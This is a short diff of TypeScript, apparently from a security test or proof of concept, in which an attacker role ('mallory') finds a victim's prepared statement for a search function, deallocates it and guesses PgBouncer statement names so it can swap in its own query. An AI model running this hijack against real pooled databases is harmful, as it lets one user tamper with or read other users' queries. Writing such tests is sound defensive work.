@@ -52,7 +52,7 @@ const loot = async (mallory: Sql) =>
 async function swapSearch(mallory: Sql, body: string) {
   const [known] = await values(
     mallory,
-    `select name from pg_prepared_statements where statement ~ 'search_with_token' and not from_sql`,
+    `select name from pg_prepared_statements where statement ~ 'from ragwall.search_with_token' and not from_sql`,
   );
   const guesses = Array.from({ length: 200 }, (_, n) => `PGBOUNCER_${n}`);
   if (known) await mallory.unsafe(`deallocate "${known}"`);
